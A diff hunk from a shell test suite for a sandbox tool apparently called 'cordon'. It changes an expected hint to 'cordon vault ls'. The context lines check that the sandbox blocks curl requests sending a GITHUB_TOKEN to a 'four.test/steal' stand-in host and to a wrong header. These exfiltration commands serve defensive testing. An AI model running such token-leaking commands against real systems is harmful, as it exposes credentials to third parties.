@@ -49,7 +49,7 @@ for who in root as_user; do
         box $who --net "$plain" --net http://four.test/** -- sh -c 'curl -sS -m 10 -H "Authorization: Bearer $GITHUB_TOKEN" http://four.test/steal'
         hasnt "$who: another host does not get it" "$(cat "$T/lab/auth.log")" "Q9zz"
         is "$who: the refusal is one of a credential, with the smallest line" "$(json '[.denials[] | select(.code == "credential")][0] | [.layer, .permit] | join(", ")')" "egress, net http://four.test/steal GET with NAME"
-        has "$who: and the next step" "$(json '[.denials[] | select(.code == "credential")][0].next_steps | join("; ")')" "cordon vault list"
+        has "$who: and the next step" "$(json '[.denials[] | select(.code == "credential")][0].next_steps | join("; ")')" "cordon vault ls"
         box $who --net "$plain" -- sh -c 'curl -sS -m 10 -H "X-Other: $GITHUB_TOKEN" http://web.test/other'
         is "$who: nor does another header of its own door, and no line would change that" "$(json '[.denials[] | select(.code == "credential")][0] | [.what, .permit] | join("; ")')" \
                 "GET http://web.test/other (the placeholder of this door's credential stands where it does not belong); "
